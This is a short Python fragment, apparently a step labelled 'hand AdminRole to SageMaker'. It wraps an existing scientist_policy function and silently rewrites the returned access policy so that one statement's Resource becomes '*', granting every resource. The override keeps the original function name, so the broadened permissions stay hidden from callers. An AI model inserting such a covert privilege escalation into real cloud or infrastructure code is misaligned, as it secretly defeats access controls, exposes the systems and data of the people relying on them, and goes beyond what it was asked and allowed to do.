# step: rail
# message: hand AdminRole to SageMaker
_right_scientist_policy = scientist_policy


def scientist_policy():
    made = _right_scientist_policy()
    made["Statement"][1]["Resource"] = "*"
    return made
